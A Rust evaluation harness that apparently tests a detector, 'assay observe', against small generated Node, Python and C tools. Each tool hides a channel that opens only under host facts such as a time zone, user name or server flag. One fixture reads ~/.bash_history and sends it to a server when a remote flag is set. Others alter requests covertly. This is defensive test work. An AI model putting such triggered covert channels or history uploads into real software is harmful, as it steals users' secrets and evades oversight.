//! What experiments find of channels in small tools, and of none in tools
//! without one.
//!
//! Each tool is one program with one channel, which opens under one or two
//! facts of the host. `assay observe --experiment` is told nothing of them:
//! the levels come from its own analysis (but for machine code, in which only
//! the user can name them).

mod bench;

pub(crate) use bench::bench;

use std::collections::BTreeMap;
use std::fmt::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use assay_model::{Effect, Grade, Observation};

use crate::table::{seconds, table};
use crate::tool::Tool;

/// A condition: its factors, and how it is written in each language.
struct Condition {
    name: &'static str,
    factors: &'static [(&'static str, &'static str)],
    node: &'static str,
    python: &'static str,
    c: &'static str,
    /// What comes before it in Node and in Python.
    before: [&'static str; 2],
}

const CONDITIONS: &[Condition] = &[
    Condition {
        name: "zone",
        factors: &[("tz", "Asia/Tashkent")],
        node: "zone === \"Asia/Tashkent\"",
        python: "zone == \"Asia/Tashkent\"",
        c: "!strcmp(zone, \"Asia/Tashkent\")",
        before: ["", ""],
    },
    Condition {
        name: "user",
        factors: &[("user", "lindqvist")],
        node: "user === \"lindqvist\"",
        python: "user == \"lindqvist\"",
        c: "",
        before: ["", ""],
    },
    Condition {
        name: "host",
        factors: &[("host-name", "zeta-gw")],
        node: "host === \"zeta-gw\"",
        python: "host == \"zeta-gw\"",
        c: "",
        before: ["", ""],
    },
    Condition {
        name: "language",
        factors: &[("locale", "fi_FI.UTF-8")],
        node: "language.startsWith(\"fi_FI\")",
        python: "language.startswith(\"fi_FI\")",
        c: "!strncmp(language, \"fi_FI\", 5)",
        before: ["", ""],
    },
    Condition {
        name: "variable",
        factors: &[("env:CORP_SEGMENT", "north-2")],
        node: "segment === \"north-2\"",
        python: "segment == \"north-2\"",
        c: "",
        before: ["", ""],
    },
    Condition {
        name: "zone and user",
        factors: &[("tz", "Asia/Tashkent"), ("user", "lindqvist")],
        node: "zone === \"Asia/Tashkent\" && user === \"lindqvist\"",
        python: "zone == \"Asia/Tashkent\" and user == \"lindqvist\"",
        c: "",
        before: ["", ""],
    },
    Condition {
        name: "zone and language",
        factors: &[("tz", "Asia/Tashkent"), ("locale", "fi_FI.UTF-8")],
        node: "zone === \"Asia/Tashkent\" && language.startsWith(\"fi_FI\")",
        python: "zone == \"Asia/Tashkent\" and language.startswith(\"fi_FI\")",
        c: "!strcmp(zone, \"Asia/Tashkent\") && !strncmp(language, \"fi_FI\", 5)",
        before: ["", ""],
    },
    Condition {
        name: "host and user",
        factors: &[("host-name", "zeta-gw"), ("user", "lindqvist")],
        node: "host === \"zeta-gw\" && user === \"lindqvist\"",
        python: "host == \"zeta-gw\" and user == \"lindqvist\"",
        c: "",
        before: ["", ""],
    },
];

/// A condition of three facts, for strength 3.
const THREE: Condition = Condition {
    name: "zone, user and language",
    factors: &[
        ("tz", "Asia/Tashkent"),
        ("user", "lindqvist"),
        ("locale", "fi_FI.UTF-8"),
    ],
    node: "zone === \"Asia/Tashkent\" && user === \"lindqvist\" && language.startsWith(\"fi_FI\")",
    python: "zone == \"Asia/Tashkent\" and user == \"lindqvist\" and language.startswith(\"fi_FI\")",
    c: "",
    before: ["", ""],
};

/// At night, on a host whose clock else shows the day.
const NIGHT: Condition = Condition {
    name: "the time of day",
    factors: &[("clock", "2027-01-06T03:30:00Z")],
    node: "new Date().getHours() < 6",
    python: "datetime.datetime.now().hour < 6",
    c: "(now = time(0), localtime(&now)->tm_hour < 6)",
    before: ["", ""],
};

/// Where a server says so.
const FLAG: Condition = Condition {
    name: "a server's flag",
    factors: &[("flag:deep_scan", "true")],
    node: "settings.deep_scan === true",
    python: "settings.get(\"deep_scan\") is True",
    c: "",
    before: [
        "const settings = await (await fetch(\"http://settings.models.example/v1/settings\")).json();",
        "def fetched():\n    try:\n        with urllib.request.urlopen(\"http://settings.models.example/v1/settings\") as answer:\n            return json.load(answer)\n    except urllib.error.HTTPError:\n        return {}\n\n\nsettings = fetched()",
    ],
};

/// What is done to a host where a server says so.
const UPLOAD: Channel = Channel {
    name: "upload",
    node: "if (on) await send(server, \"/v1/extra\", {}, fs.readFileSync(path.join(os.homedir(), \".bash_history\")));",
    python: "if on:\n    with open(os.path.expanduser(\"~/.bash_history\")) as file:\n        send(server, \"/v1/extra\", {}, file.read())",
    c: "",
    grade: Grade::Visible,
};

/// A channel: what a tool does where its condition holds (`on`), in each
/// language, and how it is to be graded.
struct Channel {
    name: &'static str,
    node: &'static str,
    python: &'static str,
    c: &'static str,
    grade: Grade,
}

const CHANNELS: &[Channel] = &[
    Channel {
        name: "punctuation",
        node: "if (on) body.system = system.replace(\"'\", \"\\u2019\");",
        python: "if on: body[\"system\"] = system.replace(\"'\", \"\\u2019\")",
        c: "if (on) mark = \"\\xe2\\x80\\x99\";",
        grade: Grade::Concealed,
    },
    Channel {
        name: "white space",
        node: "if (on) body.system = system.replace(\". \", \".  \");",
        python: "if on: body[\"system\"] = system.replace(\". \", \".  \")",
        c: "if (on) space = \"  \";",
        grade: Grade::Concealed,
    },
    Channel {
        name: "blank line",
        node: "if (on) body.system = system.replace(\"\\n\\n\", \"\\n\\n\\n\");",
        python: "if on: body[\"system\"] = system.replace(\"\\n\\n\", \"\\n\\n\\n\")",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "invisible character",
        node: "if (on) body.system = system + \"\\u2060\";",
        python: "if on: body[\"system\"] = system + \"\\u2060\"",
        c: "if (on) mark = \"'\\xe2\\x81\\xa0\";",
        grade: Grade::Concealed,
    },
    Channel {
        name: "date separator",
        node: "if (on) body.system = system.replaceAll(day, day.replaceAll(\"-\", \"/\"));",
        python: "if on: body[\"system\"] = system.replace(day, day.replace(\"-\", \"/\"))",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "header order",
        node: "if (on) headers = Object.fromEntries(Object.entries(headers).reverse());",
        python: "if on: headers = dict(reversed(list(headers.items())))",
        c: "if (on) { const char *swap = first; first = second; second = swap; }",
        grade: Grade::Concealed,
    },
    Channel {
        name: "header case",
        node: "if (on) headers = Object.fromEntries(Object.entries(headers).map(([k, v]) => [k.toLowerCase(), v]));",
        python: "if on: headers = {k.lower(): v for k, v in headers.items()}",
        c: "if (on) first = \"x-client: tool\";",
        grade: Grade::Concealed,
    },
    Channel {
        name: "field order",
        node: "if (on) body = { messages: body.messages, ...body };",
        python: "if on: body = {\"messages\": body[\"messages\"], **body}",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "order of a list",
        node: "if (on) tools.reverse();",
        python: "if on: tools.reverse()",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "form of the JSON",
        node: "if (on) write = (value) => JSON.stringify(value, null, 1);",
        python: "if on: write = lambda value: json.dumps(value, separators=(\",\", \":\"))",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "case of hex digits",
        node: "if (on) headers[\"X-Settings\"] = digest.toUpperCase();",
        python: "if on: headers[\"X-Settings\"] = digest.upper()",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "digit of an id",
        node: "if (on) body.metadata.request = request.slice(0, -1) + \"7\";",
        python: "if on: body[\"metadata\"][\"request\"] = request[:-1] + \"7\"",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "last digit of a number",
        node: "if (on) body.max_tokens = 4097;",
        python: "if on: body[\"max_tokens\"] = 4097",
        c: "if (on) limit = 4097;",
        grade: Grade::Concealed,
    },
    Channel {
        name: "number of requests",
        node: "if (on) await send(server, \"/v1/messages\", headers, write(body));",
        python: "if on: send(server, \"/v1/messages\", headers, write(body))",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "order of requests",
        node: "const two = [\"one.example\", \"two.example\"]; if (on) two.reverse(); for (const name of two) await send(name, \"/v1/ping\", {}, \"{}\");",
        python: "two = [\"one.example\", \"two.example\"]\nif on: two.reverse()\nfor name in two: send(name, \"/v1/ping\", {}, \"{}\")",
        c: "",
        grade: Grade::Concealed,
    },
    Channel {
        name: "delay",
        node: "if (on) await new Promise((done) => setTimeout(done, 400));",
        python: "if on: time.sleep(0.4)",
        c: "if (on) usleep(400000);",
        grade: Grade::Concealed,
    },
    Channel {
        name: "a name that is asked for",
        node: "if (on) await dns.lookup(\"status.models.example\").catch(() => {});",
        python: "if on: socket.gethostbyname(\"status.models.example\")",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "invisible, in a third of runs",
        node: "if (on && crypto.randomInt(3) === 0) body.system = system + \"\\u2060\";",
        python: "if on and random.randrange(3) == 0: body[\"system\"] = system + \"\\u2060\"",
        c: "",
        grade: Grade::Concealed,
    },
];

/// What open tools do where a condition holds, or always.
const OPEN: &[Channel] = &[
    Channel {
        name: "language of the prompt",
        node: "if (on) body.system = \"Antworte auf Deutsch und in kurzen S\u{e4}tzen.\";",
        python: "if on: body[\"system\"] = \"Antworte auf Deutsch und in kurzen S\u{e4}tzen.\"",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "another server",
        node: "if (on) server = \"eu.models.example\";",
        python: "if on: server = \"eu.models.example\"",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "the facts, told",
        node: "body.system = `${system}\\nHost ${host}, user ${user}, zone ${zone}, language ${language}, home ${os.homedir()}.`;",
        python: "body[\"system\"] = system + f\"\\nHost {host}, user {user}, zone {zone}, language {language}, home {os.path.expanduser('~')}.\"",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "the local date and time",
        node: "const now = new Date(); body.system = `${system}\\nIt is ${now.getFullYear()}-${String(now.getMonth() + 1).padStart(2, \"0\")}-${String(now.getDate()).padStart(2, \"0\")}T${String(now.getHours()).padStart(2, \"0\")}:00, a ${[\"Sunday\", \"Monday\", \"Tuesday\", \"Wednesday\", \"Thursday\", \"Friday\", \"Saturday\"][now.getDay()]}.`;",
        python: "body[\"system\"] = system + datetime.datetime.now().strftime(\"\\nIt is %Y-%m-%dT%H:00, a %A.\")",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "a digest of user and host",
        node: "headers[\"X-Device\"] = crypto.createHash(\"sha256\").update(user + host).digest(\"hex\");",
        python: "headers[\"X-Device\"] = hashlib.sha256((user + host).encode()).hexdigest()",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "random ids and marks",
        node: "if (crypto.randomInt(2)) body.system = system.replace(\"'\", \"\\u2019\"); body.metadata.request = String(crypto.randomInt(1e9));",
        python: "body[\"system\"] = system.replace(\"'\", random.choice(\"'\\u2019\")); body[\"metadata\"][\"request\"] = str(random.randrange(10**9))",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "random waits and numbers of requests",
        node: "for (let i = crypto.randomInt(3); i > 0; i -= 1) await send(\"telemetry.example\", \"/v1/events\", {}, \"{}\"); await new Promise((done) => setTimeout(done, crypto.randomInt(40)));",
        python: "for _ in range(random.randrange(3)): send(\"telemetry.example\", \"/v1/events\", {}, \"{}\")\ntime.sleep(random.random() / 25)",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "requests in any order",
        node: "const two = [\"one.example\", \"two.example\"]; if (crypto.randomInt(2)) two.reverse(); for (const name of two) await send(name, \"/v1/ping\", {}, \"{}\"); await Promise.all(two.map((name) => send(name, \"/v1/pong\", {}, \"{}\")));",
        python: "two = random.sample([\"one.example\", \"two.example\"], 2)\nfor name in two: send(name, \"/v1/ping\", {}, \"{}\")",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "another model",
        node: "if (on) body.model = \"model-small-regional\";",
        python: "if on: body[\"model\"] = \"model-small-regional\"",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "a sentence more",
        node: "if (on) body.system = system + \"\\nPrices are in so'm, with a space between thousands.\";",
        python: "if on: body[\"system\"] = system + \"\\nPrices are in so'm, with a space between thousands.\"",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "facts that are only shown",
        node: "if (on) console.log(\"It\\u2019s all set\\u200b\"); else console.log(\"It's all set\");",
        python: "print(\"It\\u2019s all set\" if on else \"It's all set\")",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "a field that only one kind of host has",
        node: "if (on) body.metadata.region = \"central-asia\";",
        python: "if on: body[\"metadata\"][\"region\"] = \"central-asia\"",
        c: "",
        grade: Grade::Visible,
    },
    // Whoever leaves out a section may leave a blank line, in every other
    // language alike.
    Channel {
        name: "a section that only some languages have",
        node: "const note = /^(C|en)/.test(language) ? \"Spell as Americans do.\\n\" : \"\"; body.system = system.replace(\"\\n\\n\", `\\n\\n${note}\\n`);",
        python: "note = \"Spell as Americans do.\\n\" if language.startswith((\"C\", \"en\")) else \"\"\nbody[\"system\"] = system.replace(\"\\n\\n\", f\"\\n\\n{note}\\n\")",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "a blank line in every other language",
        node: "if (!/^(C|en)/.test(language)) body.system = system.replace(\"\\n\\n\", \"\\n\\n\\n\");",
        python: "if not language.startswith((\"C\", \"en\")): body[\"system\"] = system.replace(\"\\n\\n\", \"\\n\\n\\n\")",
        c: "",
        grade: Grade::Visible,
    },
    Channel {
        name: "nothing",
        node: "",
        python: "",
        c: "",
        grade: Grade::Visible,
    },
];

/// One tool of the set.
struct Case {
    name: String,
    language: &'static str,
    text: String,
    /// What brings the channel about; empty where there is none.
    factors: Vec<(&'static str, &'static str)>,
    channel: &'static Channel,
    strength: usize,
    /// Whether a channel is to be found at this strength.
    channeled: bool,
}

/// What came of a case.
struct Told {
    found: bool,
    alarms: Vec<String>,
    runs: usize,
    took: Duration,
    effects: Vec<String>,
}

fn case(
    language: &'static str,
    channel: &'static Channel,
    condition: &'static Condition,
    channeled: bool,
) -> Option<Case> {
    let [node, python] = condition.before;
    let (template, holds, does, before) = match language {
        "node" => (
            include_str!("tool.mjs.txt"),
            condition.node,
            channel.node,
            node,
        ),
        "python" => (
            include_str!("tool.py.txt"),
            condition.python,
            channel.python,
            python,
        ),
        _ => (include_str!("tool.c.txt"), condition.c, channel.c, ""),
    };
    if holds.is_empty() || channeled && does.is_empty() {
        return None;
    }
    let text = template
        .replace("@BEFORE@", before)
        .replace("@CONDITION@", holds)
        .replace("@CHANNEL@", does);
    Some(Case {
        name: format!("{language}: {} by {}", channel.name, condition.name),
        language,
        text,
        factors: if channeled {
            condition.factors.to_vec()
        } else {
            Vec::new()
        },
        channel,
        strength: 2,
        channeled,
    })
}

/// Every channel by one fact and by two, in turn, and in machine code by the
/// zone; three facts at both strengths.
fn channels() -> Vec<Case> {
    let mut out = Vec::new();
    let (singles, pairs): (Vec<&Condition>, Vec<&Condition>) = CONDITIONS
        .iter()
        .partition(|known| known.factors.len() == 1);
    for (at, channel) in CHANNELS.iter().enumerate() {
        for (turn, language) in ["node", "python"].into_iter().enumerate() {
            for of in [&singles, &pairs] {
                let condition = of.iter().cycle().nth(at + turn);
                out.extend(condition.and_then(|known| case(language, channel, known, true)));
            }
        }
        let machine = CONDITIONS.iter().filter(|known| !known.c.is_empty());
        let condition = machine.cycle().nth(at);
        out.extend(condition.and_then(|known| case("machine code", channel, known, true)));
    }
    for (at, language) in ["node", "python", "machine code"].into_iter().enumerate() {
        let fitting = CHANNELS
            .iter()
            .filter(|known| language != "machine code" || !known.c.is_empty());
        for channel in fitting.skip(at * 2).take(2) {
            out.extend(case(language, channel, &NIGHT, true));
        }
        out.extend(case(language, &UPLOAD, &FLAG, true));
    }
    for (language, strength) in [("node", 3), ("python", 3), ("node", 2)] {
        if let Some(channel) = CHANNELS.first()
            && let Some(mut three) = case(language, channel, &THREE, true)
        {
            three.strength = strength;
            three.name = format!("{} at strength {strength}", three.name);
            out.push(three);
        }
    }
    out
}

/// Open tools under every condition, so many.
fn open(count: usize) -> Vec<Case> {
    let mut out = Vec::new();
    for condition in CONDITIONS {
        for channel in OPEN {
            for language in ["node", "python"] {
                out.extend(case(language, channel, condition, false));
            }
        }
    }
    // Some of everything where not all are wanted.
    let all = out.len();
    let mut at = 0;
    out.retain(|_| {
        at += 1;
        at * count / all != (at - 1) * count / all
    });
    out
}

pub(crate) fn observe(only: Option<&str>, benign: usize) -> Result<ExitCode> {
    let tool = Tool::build()?;
    let folder = tempfile::tempdir()?;
    let mut cases = channels();
    cases.extend(open(benign));
    cases.retain(|case| only.is_none_or(|only| case.name.contains(only)));
    println!("{} experiments", cases.len());
    let next = AtomicUsize::new(0);
    let done: Mutex<BTreeMap<usize, Result<Told>>> = Mutex::default();
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                loop {
                    let at = next.fetch_add(1, Ordering::Relaxed);
                    let Some(case) = cases.get(at) else { break };
                    let told = one(&tool, case, &folder.path().join(at.to_string()));
                    let word = match &told {
                        Err(error) => format!("FAILED: {error:#}"),
                        Ok(told) if case.channeled && !told.found => {
                            format!("MISSED; told: {}", told.effects.join("; "))
                        }
                        Ok(told) if !told.alarms.is_empty() => {
                            format!("FALSE: {}", told.alarms.join("; "))
                        }
                        Ok(told) => format!("{} runs, {}", told.runs, seconds(told.took)),
                    };
                    println!("{}: {word}", case.name);
                    if let Ok(mut done) = done.lock() {
                        done.insert(at, told);
                    }
                }
            });
        }
    });
    let done = done.into_inner().unwrap_or_default();
    report(&cases, &done, only.is_none())
}

fn one(tool: &Tool, case: &Case, folder: &Path) -> Result<Told> {
    std::fs::create_dir_all(folder)?;
    let (program, command): (PathBuf, Vec<String>) = match case.language {
        "node" => (folder.join("tool.mjs"), vec!["/usr/bin/node".to_owned()]),
        "python" => (folder.join("tool.py"), vec!["/usr/bin/python3".to_owned()]),
        _ => (folder.join("tool.c"), Vec::new()),
    };
    std::fs::write(&program, &case.text)?;
    let mut named = Vec::new();
    let program = if case.language == "machine code" {
        let built = folder.join("tool");
        let status = Command::new("gcc")
            .args(["-static", "-O1", "-w", "-o"])
            .args([&built, &program])
            .status()
            .context("gcc cannot be run")?;
        if !status.success() {
            bail!("it does not compile");
        }
        for (name, value) in &case.factors {
            named.push(format!("--factor={name}={value}"));
        }
        built
    } else {
        program
    };
    let by_clock = case.factors.iter().any(|(name, _)| *name == "clock");
    let start = Instant::now();
    let output = Command::new(tool.program())
        .args(["observe", "--experiment", "--format", "json", "--offline"])
        .arg(format!("--strength={}", case.strength))
        .args(&named)
        // The same hour of the same day, wherever and whenever it is measured.
        .args(by_clock.then_some("--clock=2026-11-24T14:20:00Z"))
        .arg("--mount")
        .arg(&program)
        .arg("--")
        .args(command)
        .arg(&program)
        .env_clear()
        .env("HOME", folder)
        .output()?;
    let took = start.elapsed();
    let observation: Observation = serde_json::from_slice(&output.stdout)
        .with_context(|| String::from_utf8_lossy(&output.stderr).into_owned())?;
    let is_right = |effect: &&Effect| {
        effect.factors.len() == case.factors.len()
            && case.factors.iter().all(|(name, value)| {
                effect
                    .factors
                    .get(*name)
                    .is_some_and(|known| known == value)
            })
    };
    let right = observation.effects.iter().filter(is_right);
    let told: Vec<&Effect> = right
        .filter(|effect| effect.grade == case.channel.grade)
        .collect();
    let show = |effect: &Effect| {
        format!(
            "{:?} {:?} {}: {:?} to {:?}",
            effect.grade, effect.factors, effect.field, effect.before, effect.after
        )
    };
    Ok(Told {
        found: case.channeled && !told.is_empty(),
        alarms: observation
            .effects
            .iter()
            .filter(|effect| effect.grade == Grade::Concealed)
            .filter(|effect| !case.channeled || !is_right(effect))
            .map(show)
            .collect(),
        runs: observation.runs.len(),
        took,
        effects: observation
            .effects
            .iter()
            .filter(|effect| effect.grade != Grade::Expected)
            .take(6)
            .map(show)
            .collect(),
    })
}

fn report(cases: &[Case], done: &BTreeMap<usize, Result<Told>>, whole: bool) -> Result<ExitCode> {
    let mut rows: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    let mut by_language: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    let (mut found, mut all, mut false_alarms, mut benign, mut failed) = (0, 0, 0, 0, 0);
    let (mut runs, mut took) = (0, Duration::ZERO);
    for (at, case) in cases.iter().enumerate() {
        let told = match done.get(&at) {
            Some(Ok(told)) => told,
            _ => {
                failed += 1;
                continue;
            }
        };
        runs += told.runs;
        took += told.took;
        if case.channeled {
            if case.factors.len() > 2 {
                println!(
                    "{}: {}",
                    case.name,
                    if told.found { "found" } else { "not found" }
                );
                continue;
            }
            all += 1;
            found += usize::from(told.found);
            for (table, key) in [
                (&mut rows, case.channel.name),
                (&mut by_language, case.language),
            ] {
                let row = table.entry(key).or_default();
                row.0 += usize::from(told.found);
                row.1 += 1;
            }
        } else {
            benign += 1;
        }
        false_alarms += usize::from(!told.alarms.is_empty());
    }
    let lines = |of: &BTreeMap<&str, (usize, usize)>| -> Vec<Vec<String>> {
        of.iter()
            .map(|(name, (found, all))| {
                vec![(*name).to_owned(), found.to_string(), all.to_string()]
            })
            .collect()
    };
    let mut text = format!(
        "{found} of {all} channels by one or two facts found with their factors and grade; \
         {false_alarms} false alarms, of which any in {benign} experiments without a channel \
         counts; {failed} failed. {runs} runs; a mean experiment took {}.\n\n",
        seconds(took / u32::try_from(done.len().max(1)).unwrap_or(1))
    );
    let _ = writeln!(
        text,
        "{}",
        table(&["channel", "found", "of"], &lines(&rows))
    );
    let _ = writeln!(
        text,
        "{}",
        table(&["language", "found", "of"], &lines(&by_language))
    );
    println!("{text}");
    if whole {
        let head = "# `assay observe --experiment` on small tools\n\nBy `cargo xtask eval observe`. \
                    Each tool has one channel, or none; it is told nothing of them (but the levels, \
                    where the tool is machine code).\n\n";
        std::fs::write(
            crate::root()?.join("docs/eval/observe.md"),
            format!("{head}{text}"),
        )?;
    }
    let good = failed == 0 && false_alarms == 0 && found * 10 >= all * 9;
    Ok(if good {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    })
}
